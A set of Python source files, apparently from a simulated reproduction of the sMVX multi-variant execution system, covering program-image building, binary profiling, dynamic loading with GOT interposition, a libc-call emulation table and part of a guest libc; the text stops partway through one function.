    def symbol(self, name: str) -> Symbol:
        try:
            return self._by_name[name]
        except KeyError:
            raise SymbolNotFound(name) from None

    def has_symbol(self, name: str) -> bool:
        return name in self._by_name

    def function_symbols(self) -> List[Symbol]:
        return [s for s in self.symbols if s.kind == "func"]

    def section_layout(self) -> List[Tuple[str, int, int]]:
        """Return ``(section, offset_from_base, size)`` with page alignment,
        in load order."""
        layout = []
        offset = 0
        for section in SECTION_ORDER:
            size = (self.bss_size if section == ".bss"
                    else len(self.sections.get(section, b"")))
            layout.append((section, offset, size))
            offset += page_align_up(max(size, 1))
        return layout

    @property
    def load_size(self) -> int:
        last = self.section_layout()[-1]
        return last[1] + page_align_up(max(last[2], 1))


class ImageBuilder:
    """Assembles functions and data into a :class:`ProgramImage`."""

    def __init__(self, name: str):
        self.name = name
        self._isa_functions: List[Tuple[str, Assembler, int]] = []
        self._hl_functions: List[Tuple[str, HLFunction, int]] = []
        self._rodata: List[Tuple[str, bytes]] = []
        self._data: List[Tuple[str, bytes]] = []
        self._bss: List[Tuple[str, int]] = []
        self._plt_imports: List[str] = []
        self._relocations: List[Tuple[str, int, str, int]] = []  # by data sym
        self._entry: Optional[str] = None

    # -- code -------------------------------------------------------------------

    def add_isa_function(self, name: str, assembler: Assembler,
                         pad_to: int = 0) -> None:
        self._isa_functions.append((name, assembler, pad_to))

    def add_hl_function(self, name: str, fn: Callable, arity: int,
                        size: int = 4 * INSTR_SIZE,
                        variadic: bool = False,
                        calls: Sequence[str] = ()) -> None:
        """Register an HL function occupying ``size`` bytes of ``.text``.

        ``size`` lets applications give functions realistic footprints so
        RSS measurements (and page-granular variant cloning) behave like
        the paper's binaries.  ``calls`` declares static callees for the
        call-graph analysis (ISA functions don't need this — their CALL
        targets are extracted by disassembly).
        """
        if size < 2 * INSTR_SIZE:
            raise ImageError("HL function needs at least HLCALL+RET")
        self._hl_functions.append(
            (name, HLFunction(name, fn, arity, variadic, tuple(calls)),
             size))

    def import_libc(self, *names: str) -> None:
        for name in names:
            if name not in self._plt_imports:
                self._plt_imports.append(name)

    # -- data --------------------------------------------------------------------

    def add_rodata(self, name: str, content: bytes) -> None:
        self._rodata.append((name, content))

    def add_data(self, name: str, content: bytes) -> None:
        self._data.append((name, content))

    def add_bss(self, name: str, size: int) -> None:
        self._bss.append((name, size))

    def add_data_pointer(self, name: str, target: str,
                         addend: int = 0) -> None:
        """A pointer-sized ``.data`` object initialized to ``&target``."""
        self._data.append((name, b"\x00" * 8))
        self._relocations.append((name, 0, target, addend))

    def add_pointer_table(self, name: str, targets: Sequence[str]) -> None:
        """An array of function/data pointers (e.g. a handler table)."""
        self._data.append((name, b"\x00" * (8 * len(targets))))
        for index, target in enumerate(targets):
            self._relocations.append((name, 8 * index, target, 0))

    # -- build --------------------------------------------------------------------

    def build(self) -> ProgramImage:
        symbols: List[Symbol] = []
        hl_table: List[HLFunction] = []
        hl_sites: List[Tuple[int, int]] = []

        # ---- lay out .text ----
        text_offsets: Dict[str, int] = {}
        cursor = 0
        pieces: List[Tuple[str, object, int, int]] = []  # name, src, off, size
        for name, assembler, pad_to in self._isa_functions:
            size = max(len(assembler) * INSTR_SIZE, pad_to)
            size = ((size + INSTR_SIZE - 1) // INSTR_SIZE) * INSTR_SIZE
            pieces.append((name, assembler, cursor, size))
            text_offsets[name] = cursor
            cursor += size
        for name, hl, size in self._hl_functions:
            size = ((size + INSTR_SIZE - 1) // INSTR_SIZE) * INSTR_SIZE
            pieces.append((name, hl, cursor, size))
            text_offsets[name] = cursor
            cursor += size
        text_size = cursor

        # ---- lay out remaining sections (offsets within each section) ----
        plt_size = len(self._plt_imports) * PLT_ENTRY_SIZE
        rodata_offsets, rodata_size = self._layout(self._rodata)
        gotplt_size = max(8 * len(self._plt_imports), 8)
        data_offsets, data_size = self._layout(self._data)
        bss_offsets, bss_size = self._layout_sizes(self._bss)

        layout_for = {".text": text_offsets,
                      ".rodata": rodata_offsets,
                      ".data": data_offsets,
                      ".bss": bss_offsets}

        # ---- compute section bases for a base-0 load (for assembly) ----
        section_base: Dict[str, int] = {}
        offset = 0
        for section in SECTION_ORDER:
            size = {".text": text_size, ".plt": plt_size,
                    ".rodata": rodata_size, ".got.plt": gotplt_size,
                    ".data": data_size, ".bss": bss_size}[section]
            section_base[section] = offset
            offset += page_align_up(max(size, 1))

        def absolute(name: str) -> int:
            for section, table in layout_for.items():
                if name in table:
                    return section_base[section] + table[name]
            if name in self._plt_imports:
                return (section_base[".plt"]
                        + self._plt_imports.index(name) * PLT_ENTRY_SIZE)
            raise ImageError(
                f"{self.name}: unresolved symbol {name!r}")

        externals = {}
        for table_section, table in layout_for.items():
            for sym_name in table:
                externals[sym_name] = absolute(sym_name)
        for import_name in self._plt_imports:
            externals.setdefault(f"{import_name}@plt", absolute(import_name))

        # ---- emit .text ----
        text = bytearray(text_size)
        for name, source, func_offset, size in pieces:
            if isinstance(source, Assembler):
                code = source.assemble(section_base[".text"] + func_offset,
                                       externals=externals)
                if len(code) > size:
                    raise ImageError(f"{name}: code exceeds padded size")
                text[func_offset:func_offset + len(code)] = code
                self._pad_nops(text, func_offset + len(code),
                               func_offset + size)
                symbols.append(Symbol(name, ".text", func_offset, size))
            else:
                local_index = len(hl_table)
                hl_table.append(source)
                entry = Instruction(Op.HLCALL, imm=local_index).encode()
                ret = Instruction(Op.RET).encode()
                text[func_offset:func_offset + INSTR_SIZE] = entry
                text[func_offset + INSTR_SIZE:
                     func_offset + 2 * INSTR_SIZE] = ret
                self._pad_nops(text, func_offset + 2 * INSTR_SIZE,
                               func_offset + size)
                hl_sites.append((func_offset, local_index))
                symbols.append(Symbol(name, ".text", func_offset, size))

        # ---- emit .plt: JMP_M through the matching .got.plt slot ----
        plt = bytearray(plt_size)
        for index, import_name in enumerate(self._plt_imports):
            entry_offset = index * PLT_ENTRY_SIZE
            entry_addr = section_base[".plt"] + entry_offset
            slot_addr = section_base[".got.plt"] + 8 * index
            displacement = slot_addr - (entry_addr + INSTR_SIZE)
            jmp = Instruction(Op.JMP_M, imm=displacement).encode()
            plt[entry_offset:entry_offset + INSTR_SIZE] = jmp
            plt[entry_offset + INSTR_SIZE:
                entry_offset + 2 * INSTR_SIZE] = Instruction(Op.NOP).encode()
            symbols.append(Symbol(f"{import_name}@plt", ".plt",
                                  entry_offset, PLT_ENTRY_SIZE))

        # ---- emit data sections ----
        rodata = self._emit(self._rodata, rodata_offsets, rodata_size)
        data = self._emit(self._data, data_offsets, data_size)
        for name, content in self._rodata:
            symbols.append(Symbol(name, ".rodata", rodata_offsets[name],
                                  len(content), "object"))
        for name, content in self._data:
            symbols.append(Symbol(name, ".data", data_offsets[name],
                                  len(content), "object"))
        for name, size in self._bss:
            symbols.append(Symbol(name, ".bss", bss_offsets[name], size,
                                  "object"))

        relocations = []
        data_offset_by_name = data_offsets
        for sym_name, rel_offset, target, addend in self._relocations:
            relocations.append(DataRelocation(
                ".data", data_offset_by_name[sym_name] + rel_offset,
                target, addend))

        return ProgramImage(
            name=self.name,
            sections={".text": bytes(text), ".plt": bytes(plt),
                      ".rodata": rodata,
                      ".got.plt": b"\x00" * gotplt_size,
                      ".data": data},
            bss_size=bss_size,
            symbols=symbols,
            hl_functions=hl_table,
            hl_sites=hl_sites,
            plt_imports=list(self._plt_imports),
            relocations=relocations,
        )

    # -- helpers ---------------------------------------------------------------------

    @staticmethod
    def _pad_nops(buf: bytearray, start: int, end: int) -> None:
        nop = Instruction(Op.NOP).encode()
        for offset in range(start, end, INSTR_SIZE):
            buf[offset:offset + INSTR_SIZE] = nop

    @staticmethod
    def _layout(items: List[Tuple[str, bytes]]) -> Tuple[Dict[str, int], int]:
        offsets: Dict[str, int] = {}
        cursor = 0
        for name, content in items:
            if name in offsets:
                raise ImageError(f"duplicate data symbol {name!r}")
            offsets[name] = cursor
            cursor += max(len(content), 1)
            cursor = (cursor + 7) & ~7          # keep 8-byte alignment
        return offsets, cursor

    @staticmethod
    def _layout_sizes(items: List[Tuple[str, int]]) -> Tuple[Dict[str, int], int]:
        offsets: Dict[str, int] = {}
        cursor = 0
        for name, size in items:
            offsets[name] = cursor
            cursor += max(size, 1)
            cursor = (cursor + 7) & ~7
        return offsets, cursor

    @staticmethod
    def _emit(items: List[Tuple[str, bytes]], offsets: Dict[str, int],
              total: int) -> bytes:
        buf = bytearray(total)
        for name, content in items:
            start = offsets[name]
            buf[start:start + len(content)] = content
        return bytes(buf)
