"""The pre-run binary-profile script (paper §3.2).

Before running an application under sMVX, the end-user runs a script that
analyzes the binary and writes a profile file into a ``/tmp`` filesystem
containing: start offsets and sizes of ``.text``, ``.data``, ``.bss``,
``.plt`` and ``.got.plt``, plus the symbol table so the monitor can
resolve the protected-function *name* given to ``mvx_start()`` into an
address.  ``setup_mvx()`` reads this file back at preload time.

We serialize as a simple line-oriented text format (one artifact a human
can inspect, like the original) and parse it strictly.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.errors import ImageError, SymbolNotFound
from repro.kernel.vfs import VirtualFS
from repro.loader.image import ProgramImage

PROFILE_SECTIONS = (".text", ".data", ".bss", ".plt", ".got.plt")


@dataclass
class BinaryProfile:
    """Parsed profile file contents."""

    binary: str
    #: section -> (offset_from_base, size)
    sections: Dict[str, Tuple[int, int]] = field(default_factory=dict)
    #: name -> (section, offset_in_section, size, kind)
    symbols: Dict[str, Tuple[str, int, int, str]] = field(
        default_factory=dict)

    def symbol_offset_from_base(self, name: str) -> int:
        """Image-relative offset of a symbol (section base + local)."""
        try:
            section, offset, _size, _kind = self.symbols[name]
        except KeyError:
            raise SymbolNotFound(name) from None
        return self.sections[section][0] + offset

    def symbol_size(self, name: str) -> int:
        try:
            return self.symbols[name][2]
        except KeyError:
            raise SymbolNotFound(name) from None

    def function_names(self) -> List[str]:
        return [name for name, (_s, _o, _sz, kind) in self.symbols.items()
                if kind == "func"]

    # -- serialization ------------------------------------------------------------

    def dump(self) -> str:
        lines = [f"binary {self.binary}"]
        for section, (offset, size) in sorted(self.sections.items()):
            lines.append(f"section {section} {offset:#x} {size:#x}")
        for name, (section, offset, size, kind) in sorted(
                self.symbols.items()):
            lines.append(f"symbol {name} {section} {offset:#x} {size:#x} "
                         f"{kind}")
        return "\n".join(lines) + "\n"

    @staticmethod
    def parse(text: str) -> "BinaryProfile":
        profile: Optional[BinaryProfile] = None
        for lineno, line in enumerate(text.splitlines(), 1):
            line = line.strip()
            if not line:
                continue
            fields = line.split()
            if fields[0] == "binary" and len(fields) == 2:
                profile = BinaryProfile(fields[1])
            elif fields[0] == "section" and len(fields) == 4:
                if profile is None:
                    raise ImageError("profile: section before binary line")
                profile.sections[fields[1]] = (int(fields[2], 16),
                                               int(fields[3], 16))
            elif fields[0] == "symbol" and len(fields) == 6:
                if profile is None:
                    raise ImageError("profile: symbol before binary line")
                profile.symbols[fields[1]] = (fields[2], int(fields[3], 16),
                                              int(fields[4], 16), fields[5])
            else:
                raise ImageError(f"profile: bad line {lineno}: {line!r}")
        if profile is None:
            raise ImageError("profile: empty file")
        return profile


def generate_profile(image: ProgramImage) -> BinaryProfile:
    """Extract section/symbol info from an image (the analysis script)."""
    profile = BinaryProfile(image.name)
    for section, offset, size in image.section_layout():
        if section in PROFILE_SECTIONS:
            profile.sections[section] = (offset, size)
    for sym in image.symbols:
        if sym.section in PROFILE_SECTIONS or sym.section == ".rodata":
            profile.symbols[sym.name] = (sym.section, sym.offset, sym.size,
                                         sym.kind)
    return profile


def write_profile(vfs: VirtualFS, image: ProgramImage,
                  path: Optional[str] = None) -> str:
    """Run the profile script and drop the result into the /tmp filesystem."""
    path = path or f"/tmp/{image.name}.profile"
    vfs.write_file(path, generate_profile(image).dump().encode())
    return path


def read_profile(vfs: VirtualFS, path: str) -> BinaryProfile:
    raw = vfs.read_file(path)
    if raw is None:
        raise ImageError(f"profile file missing: {path}")
    return BinaryProfile.parse(raw.decode())
