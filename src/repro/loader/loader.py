"""The dynamic loader: maps images, links imports, tracks symbols.

Responsibilities mirroring ``ld.so`` at the fidelity sMVX needs:

* place each image at a base address (caller-chosen or allocator-chosen,
  so ASLR-style randomization and deliberate non-overlap are both easy);
* materialize sections with correct permissions (``.text``/``.plt``
  executable, ``.rodata`` read-only, ``.got.plt``/``.data``/``.bss``
  writable);
* perform eager dynamic linking: fill ``.got.plt`` slots with exported
  addresses from previously loaded images (our "libc.so");
* apply data relocations (statically initialized pointers);
* patch ``HLCALL`` operands from image-local to process-global indices;
* answer ``address -> containing function`` queries (the r2pipe analogue
  used by the taint report and the profiler).

The sMVX monitor reuses :meth:`Loader.got_slot_address` +
:meth:`Loader.patch_got_slot` to interpose its trampoline stubs on libc
calls, and :meth:`Loader.register_shifted_copy` to describe the follower
variant's relocated image.
"""

from __future__ import annotations

import bisect
from typing import Dict, List, Optional, Tuple

from repro.errors import ImageError, SymbolNotFound
from repro.loader.image import (
    EXEC_SECTIONS,
    HLFunction,
    ProgramImage,
    Symbol,
)
from repro.machine.isa import INSTR_SIZE, Instruction, Op
from repro.machine.memory import (
    AddressSpace,
    PROT_READ,
    PROT_RW,
    PROT_RX,
    page_align_up,
)


class LoadedImage:
    """One image mapped at a base address."""

    def __init__(self, image: ProgramImage, base: int,
                 hl_index_base: int, tag: str):
        self.image = image
        self.base = base
        self.hl_index_base = hl_index_base
        self.tag = tag
        self.section_bases: Dict[str, int] = {}
        for section, offset, _size in image.section_layout():
            self.section_bases[section] = base + offset
        # sorted function table for address -> symbol lookup
        self._func_syms = sorted(
            (self.symbol_address(sym.name), sym)
            for sym in image.symbols if sym.kind == "func")
        self._func_addrs = [addr for addr, _ in self._func_syms]

    # -- symbols --------------------------------------------------------------

    def symbol_address(self, name: str) -> int:
        sym = self.image.symbol(name)
        return self.section_bases[sym.section] + sym.offset

    def has_symbol(self, name: str) -> bool:
        return self.image.has_symbol(name)

    def function_at(self, addr: int) -> Optional[Symbol]:
        """The function whose ``[start, start+size)`` range covers addr."""
        index = bisect.bisect_right(self._func_addrs, addr) - 1
        if index < 0:
            return None
        start, sym = self._func_syms[index]
        if start <= addr < start + sym.size:
            return sym
        return None

    def contains(self, addr: int) -> bool:
        return self.base <= addr < self.base + self.image.load_size

    def section_range(self, section: str) -> Tuple[int, int]:
        for name, offset, size in self.image.section_layout():
            if name == section:
                return self.base + offset, size
        raise ImageError(f"no section {section!r}")

    def got_slot_address(self, import_name: str) -> int:
        try:
            index = self.image.plt_imports.index(import_name)
        except ValueError:
            raise SymbolNotFound(f"{import_name} (not imported by "
                                 f"{self.image.name})") from None
        return self.section_bases[".got.plt"] + 8 * index


class Loader:
    """Loads images into one address space and links them together."""

    def __init__(self, space: AddressSpace):
        self.space = space
        self.images: List[LoadedImage] = []
        self.hl_table: List[Tuple[HLFunction, "LoadedImage"]] = []
        self._exports: Dict[str, int] = {}
        self._next_base = 0x0000_5555_0000_0000  # PIE-ish default area

    # -- loading ------------------------------------------------------------------

    def load(self, image: ProgramImage, base: Optional[int] = None,
             tag: Optional[str] = None, pkey: int = 0,
             verify: bool = False) -> LoadedImage:
        if verify:
            # opt-in pre-load verification: refuse images carrying a
            # PKRU-write gadget or undecodable function bodies
            from repro.analysis.verify import verify_image
            report = verify_image(image)
            if not report.ok:
                raise ImageError(
                    f"{image.name}: static verification failed:\n"
                    + "\n".join(f.format() for f in report.errors))
        if base is None:
            base = self._next_base
            self._next_base += page_align_up(image.load_size) + 0x10000
        tag = tag or image.name
        hl_index_base = len(self.hl_table)
        loaded = LoadedImage(image, base, hl_index_base, tag)

        for section, offset, size in image.section_layout():
            prot = (PROT_RX if section in EXEC_SECTIONS
                    else PROT_READ if section == ".rodata"
                    else PROT_RW)
            self.space.mmap(base + offset, max(size, 1), prot=prot,
                            pkey=pkey, tag=f"{tag}:{section}")
            content = image.sections.get(section)
            if content:
                if section == ".text":
                    content = self._patch_hlcalls(image, content,
                                                  hl_index_base)
                self.space.write(base + offset, content, privileged=True)

        for hl in image.hl_functions:
            self.hl_table.append((hl, loaded))

        self._link_imports(loaded)
        self._apply_relocations(loaded)

        for sym in image.symbols:
            # later images win on name clashes, like symbol interposition
            self._exports[sym.name] = loaded.symbol_address(sym.name)
        self.images.append(loaded)
        return loaded

    @staticmethod
    def _patch_hlcalls(image: ProgramImage, text: bytes,
                       hl_index_base: int) -> bytes:
        buf = bytearray(text)
        for offset, local_index in image.hl_sites:
            patched = Instruction(Op.HLCALL,
                                  imm=hl_index_base + local_index)
            buf[offset:offset + INSTR_SIZE] = patched.encode()
        return bytes(buf)

    def _link_imports(self, loaded: LoadedImage) -> None:
        for index, name in enumerate(loaded.image.plt_imports):
            target = self._exports.get(name)
            if target is None:
                raise ImageError(
                    f"{loaded.image.name}: unresolved import {name!r}")
            self.space.write_word(loaded.section_bases[".got.plt"]
                                  + 8 * index, target, privileged=True)

    def _apply_relocations(self, loaded: LoadedImage) -> None:
        for rel in loaded.image.relocations:
            if loaded.has_symbol(rel.target):
                target = loaded.symbol_address(rel.target)
            else:
                target = self._exports.get(rel.target)
                if target is None:
                    raise ImageError(
                        f"{loaded.image.name}: relocation against unknown "
                        f"symbol {rel.target!r}")
            address = loaded.section_bases[rel.section] + rel.offset
            self.space.write_word(address, target + rel.addend,
                                  privileged=True)

    # -- queries -----------------------------------------------------------------------

    def resolve(self, name: str) -> int:
        try:
            return self._exports[name]
        except KeyError:
            raise SymbolNotFound(name) from None

    def image_at(self, addr: int) -> Optional[LoadedImage]:
        for loaded in self.images:
            if loaded.contains(addr):
                return loaded
        return None

    def function_at(self, addr: int) -> Optional[Tuple[LoadedImage, Symbol]]:
        loaded = self.image_at(addr)
        if loaded is None:
            return None
        sym = loaded.function_at(addr)
        return (loaded, sym) if sym is not None else None

    def hl_function(self, global_index: int) -> Tuple[HLFunction, LoadedImage]:
        try:
            return self.hl_table[global_index]
        except IndexError:
            raise ImageError(f"bad HL index {global_index}") from None

    # -- interposition (used by the sMVX monitor) -----------------------------------------

    def got_slot_address(self, loaded: LoadedImage, name: str) -> int:
        return loaded.got_slot_address(name)

    def read_got_slot(self, loaded: LoadedImage, name: str) -> int:
        return self.space.read_word(loaded.got_slot_address(name),
                                    privileged=True)

    def patch_got_slot(self, loaded: LoadedImage, name: str,
                       target: int) -> int:
        """Point a ``.got.plt`` slot somewhere else; returns the old value."""
        slot = loaded.got_slot_address(name)
        old = self.space.read_word(slot, privileged=True)
        self.space.write_word(slot, target, privileged=True)
        return old

    # -- follower-variant support ------------------------------------------------------------

    def register_shifted_copy(self, original: LoadedImage, shift: int,
                              tag: str) -> LoadedImage:
        """Describe an already-copied image at ``original.base + shift``.

        The caller (sMVX variant creation) is responsible for having copied
        the page contents; PIE code plus process-global ``HLCALL`` indices
        make the bytes valid at the new base as-is.
        """
        copy = LoadedImage(original.image, original.base + shift,
                           original.hl_index_base, tag)
        self.images.append(copy)
        return copy

    def unregister(self, loaded: LoadedImage) -> None:
        """Forget an image view (follower teardown at mvx_end)."""
        self.images.remove(loaded)
