"""Table 1: libc-call emulation requirements.

The sMVX monitor classifies every intercepted libc call into one of four
behaviours (paper §3.3):

* ``RETVAL_ONLY`` — the follower skips execution; only the leader's return
  value and errno are replayed to it.
* ``RETVAL_AND_BUFFER`` — the call writes through pointer arguments; the
  leader's output buffers are additionally copied to the follower through
  the IPC channel.
* ``SPECIAL`` — argument shapes depend on runtime values (``ioctl``'s
  request, ``epoll_data``'s union); the monitor applies the
  pointer-in-address-space heuristic the paper describes.
* ``LOCAL`` — pure user-space calls (``malloc``, string ops): both
  variants execute them independently against their own memory; the
  monitor still lockstep-checks the call name and scalar arguments.

``PAPER_TABLE1`` lists exactly the names printed in the paper's Table 1 so
the benchmark can assert our coverage of it.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple


class Category(enum.Enum):
    RETVAL_ONLY = "return value emulation"
    RETVAL_AND_BUFFER = "return value and argument buffer emulation"
    SPECIAL = "special emulation"
    LOCAL = "executed locally by both variants"


class BufSize(enum.Enum):
    """How to determine an output buffer's size at emulation time."""

    RETVAL = "retval"        # size == the call's return value (read/recv)
    FIXED = "fixed"          # a constant (struct outputs)
    RETVAL_TIMES = "retval*" # retval multiplied by a record size (epoll)


@dataclass(frozen=True)
class OutBuffer:
    """One pointer argument the call writes through."""

    arg_index: int
    size: BufSize
    fixed_size: int = 0      # for FIXED / RETVAL_TIMES (record size)


@dataclass(frozen=True)
class EmulationSpec:
    """Everything the lockstep synchronizer needs for one libc call."""

    name: str
    category: Category
    out_buffers: Tuple[OutBuffer, ...] = ()
    #: the return value is an address (malloc, localtime_r): legitimately
    #: different across variants, so it is translated, not compared.
    retval_is_pointer: bool = False
    #: argument indices that are pointers (excluded from scalar compare).
    pointer_args: Tuple[int, ...] = ()


def _spec(name, category, out=(), retptr=False, ptrs=()):
    return EmulationSpec(name, category, tuple(out), retptr, tuple(ptrs))


EMULATION_SPECS: Dict[str, EmulationSpec] = {spec.name: spec for spec in [
    # -- category 1: return value (+ errno) only --
    _spec("open", Category.RETVAL_ONLY, ptrs=(0,)),
    _spec("close", Category.RETVAL_ONLY),
    _spec("shutdown", Category.RETVAL_ONLY),
    _spec("write", Category.RETVAL_ONLY, ptrs=(1,)),
    _spec("writev", Category.RETVAL_ONLY, ptrs=(1,)),
    _spec("epoll_ctl", Category.RETVAL_ONLY, ptrs=(3,)),
    _spec("setsockopt", Category.RETVAL_ONLY, ptrs=(3,)),
    _spec("listen_on", Category.RETVAL_ONLY),
    _spec("epoll_create1", Category.RETVAL_ONLY),
    _spec("send", Category.RETVAL_ONLY, ptrs=(1,)),
    _spec("mkdir", Category.RETVAL_ONLY, ptrs=(0,)),
    _spec("unlink", Category.RETVAL_ONLY, ptrs=(0,)),
    _spec("lseek", Category.RETVAL_ONLY),
    _spec("getpid", Category.RETVAL_ONLY),
    _spec("exit", Category.RETVAL_ONLY),

    # -- category 2: return value + argument buffer copy-back --
    _spec("sendfile", Category.RETVAL_AND_BUFFER,
          out=[OutBuffer(2, BufSize.FIXED, 8)], ptrs=(2,)),
    _spec("stat", Category.RETVAL_AND_BUFFER,
          out=[OutBuffer(1, BufSize.FIXED, 24)], ptrs=(0, 1)),
    _spec("read", Category.RETVAL_AND_BUFFER,
          out=[OutBuffer(1, BufSize.RETVAL)], ptrs=(1,)),
    _spec("fstat", Category.RETVAL_AND_BUFFER,
          out=[OutBuffer(1, BufSize.FIXED, 24)], ptrs=(1,)),
    _spec("gettimeofday", Category.RETVAL_AND_BUFFER,
          out=[OutBuffer(0, BufSize.FIXED, 16)], ptrs=(0, 1)),
    _spec("accept4", Category.RETVAL_AND_BUFFER),
    _spec("recv", Category.RETVAL_AND_BUFFER,
          out=[OutBuffer(1, BufSize.RETVAL)], ptrs=(1,)),
    _spec("getsockopt", Category.RETVAL_AND_BUFFER,
          out=[OutBuffer(3, BufSize.FIXED, 8),
               OutBuffer(4, BufSize.FIXED, 8)], ptrs=(3, 4)),
    _spec("localtime_r", Category.RETVAL_AND_BUFFER,
          out=[OutBuffer(1, BufSize.FIXED, 72)], retptr=True, ptrs=(0, 1)),
    _spec("time", Category.RETVAL_AND_BUFFER,
          out=[OutBuffer(0, BufSize.FIXED, 8)], ptrs=(0,)),

    # -- category 3: special --
    _spec("ioctl", Category.SPECIAL,
          out=[OutBuffer(2, BufSize.FIXED, 8)], ptrs=(2,)),
    _spec("epoll_wait", Category.SPECIAL,
          out=[OutBuffer(1, BufSize.RETVAL_TIMES, 16)], ptrs=(1,)),
    _spec("epoll_pwait", Category.SPECIAL,
          out=[OutBuffer(1, BufSize.RETVAL_TIMES, 16)], ptrs=(1,)),

    # -- local: both variants execute; scalar args still compared --
    _spec("malloc", Category.LOCAL, retptr=True),
    _spec("calloc", Category.LOCAL, retptr=True),
    _spec("realloc", Category.LOCAL, retptr=True, ptrs=(0,)),
    _spec("free", Category.LOCAL, ptrs=(0,)),
    _spec("memcpy", Category.LOCAL, retptr=True, ptrs=(0, 1)),
    _spec("memmove", Category.LOCAL, retptr=True, ptrs=(0, 1)),
    _spec("memset", Category.LOCAL, retptr=True, ptrs=(0,)),
    _spec("memcmp", Category.LOCAL, ptrs=(0, 1)),
    _spec("strlen", Category.LOCAL, ptrs=(0,)),
    _spec("strcmp", Category.LOCAL, ptrs=(0, 1)),
    _spec("strncmp", Category.LOCAL, ptrs=(0, 1)),
    _spec("strchr", Category.LOCAL, retptr=True, ptrs=(0,)),
    _spec("atoi", Category.LOCAL, ptrs=(0,)),
]}


#: The exact call list printed in the paper's Table 1, by category, so the
#: Table 1 benchmark can check coverage name-for-name.  ``socket``-setup
#: calls appear in the paper under their Linux names; our kernel folds
#: socket/bind/listen into ``listen_on`` (documented in DESIGN.md).
PAPER_TABLE1 = {
    Category.RETVAL_ONLY: [
        "open", "close", "shutdown", "write", "writev", "epoll_ctl",
        "setsockopt",
    ],
    Category.RETVAL_AND_BUFFER: [
        "sendfile", "stat", "read", "fstat", "gettimeofday", "accept4",
        "recv", "getsockopt", "localtime_r",
    ],
    Category.SPECIAL: [
        "ioctl", "epoll_wait", "epoll_pwait",
    ],
}


def spec_for(name: str) -> Optional[EmulationSpec]:
    return EMULATION_SPECS.get(name)


def category_of(name: str) -> Category:
    spec = EMULATION_SPECS.get(name)
    return spec.category if spec else Category.LOCAL
