"""Guest libc implementation.

Each function takes a :class:`~repro.process.context.GuestContext` plus
integer arguments (guest addresses or scalars) and returns an integer,
setting ``ctx.errno`` on failure, exactly like the C counterparts return
``-1`` + errno.

Two cost behaviours matter for the evaluation's shape:

* syscall-backed calls enter the simulated kernel (counted, charged);
* pure user-space calls (``malloc``, string ops, ``time``,
  ``localtime_r``) never do — footnote 2 of the paper, the reason the
  libc:syscall ratio in Figure 7 exceeds 1.
"""

from __future__ import annotations

from typing import Callable, Dict, Tuple

from repro.kernel.errno_codes import Errno
from repro.loader.image import ImageBuilder, ProgramImage
from repro.machine.isa import INSTR_SIZE
from repro.process.context import GuestContext, to_signed

_MASK64 = (1 << 64) - 1

#: user-space bookkeeping cost charged by every libc call on top of any
#: syscall (argument marshalling, buffered-IO logic, ...), in compute units.
_LIBC_OVERHEAD_UNITS = 12

#: SA_RESTART-style resume bound: a syscall interrupted this many times in
#: a row surfaces EINTR to the caller instead of spinning forever.
_EINTR_RETRY_LIMIT = 64


def _sys(ctx: GuestContext, name: str, *args: int) -> int:
    """Issue a syscall and convert the raw result to libc conventions.

    EINTR is restarted transparently (SA_RESTART semantics: no guest in
    this repo installs interruptible handlers), so the fault plane's
    injected interruptions cost kernel crossings but never change what
    the application observes.  Each restart is a real, counted syscall.
    """
    kernel = ctx.process.kernel
    raw = kernel.syscall(ctx.process, name, *args)
    restarts = 0
    while isinstance(raw, int) and raw == -Errno.EINTR \
            and restarts < _EINTR_RETRY_LIMIT:
        restarts += 1
        ctx.charge(4, "libc")            # signal-return + restart work
        raw = kernel.syscall(ctx.process, name, *args)
    if isinstance(raw, int) and raw < 0:
        ctx.errno = -raw
        return -1
    return raw


def _user(ctx: GuestContext) -> None:
    ctx.charge(_LIBC_OVERHEAD_UNITS, "libc")


# ---------------------------------------------------------------------------
# files
# ---------------------------------------------------------------------------

def libc_open(ctx, path, flags):
    _user(ctx)
    return _sys(ctx, "open", path, flags)


def libc_close(ctx, fd):
    _user(ctx)
    return _sys(ctx, "close", fd)


def libc_read(ctx, fd, buf, count):
    _user(ctx)
    return _sys(ctx, "read", fd, buf, to_signed(count))


def _write_all(ctx, name: str, fd, buf, count, flags=None) -> int:
    """Short-write completion loop: the kernel may transfer fewer bytes
    than asked (the fault plane does this on purpose); every real server
    wraps write/send in exactly this resume-from-offset loop, so the
    guest applications above stay oblivious."""
    total = 0
    while True:
        args = (fd, buf + total, count - total)
        if flags is not None:
            args += (flags,)
        wrote = _sys(ctx, name, *args)
        if wrote < 0:
            return wrote if total == 0 else total
        total += wrote
        if total >= count or wrote == 0:
            return total


def libc_write(ctx, fd, buf, count):
    _user(ctx)
    return _write_all(ctx, "write", fd, buf, count)


def libc_writev(ctx, fd, iov, iovcnt):
    _user(ctx)
    return _sys(ctx, "writev", fd, iov, iovcnt)


def libc_stat(ctx, path, statbuf):
    _user(ctx)
    return _sys(ctx, "stat", path, statbuf)


def libc_fstat(ctx, fd, statbuf):
    _user(ctx)
    return _sys(ctx, "fstat", fd, statbuf)


def libc_lseek(ctx, fd, offset, whence):
    _user(ctx)
    return _sys(ctx, "lseek", fd, to_signed(offset), whence)


def libc_mkdir(ctx, path, mode):
    _user(ctx)
    return _sys(ctx, "mkdir", path, mode)


def libc_unlink(ctx, path):
    _user(ctx)
    return _sys(ctx, "unlink", path)


def libc_sendfile(ctx, out_fd, in_fd, offset_addr, count):
    _user(ctx)
    return _sys(ctx, "sendfile", out_fd, in_fd, offset_addr, count)


# ---------------------------------------------------------------------------
# sockets
# ---------------------------------------------------------------------------

def libc_listen_on(ctx, port, backlog):
    """socket()+bind()+listen() rolled into one (simulation shape)."""
    _user(ctx)
    return _sys(ctx, "listen_on", port, backlog)


def libc_accept4(ctx, fd, flags):
    _user(ctx)
    return _sys(ctx, "accept4", fd, flags)


def libc_recv(ctx, fd, buf, count, flags):
    _user(ctx)
    return _sys(ctx, "recvfrom", fd, buf, to_signed(count), flags)


def libc_send(ctx, fd, buf, count, flags):
    _user(ctx)
    return _write_all(ctx, "sendto", fd, buf, count, flags)


def libc_shutdown(ctx, fd, how):
    _user(ctx)
    return _sys(ctx, "shutdown", fd, how)


def libc_setsockopt(ctx, fd, level, optname, optval, optlen):
    _user(ctx)
    return _sys(ctx, "setsockopt", fd, level, optname, optval, optlen)


def libc_getsockopt(ctx, fd, level, optname, optval, optlen):
    _user(ctx)
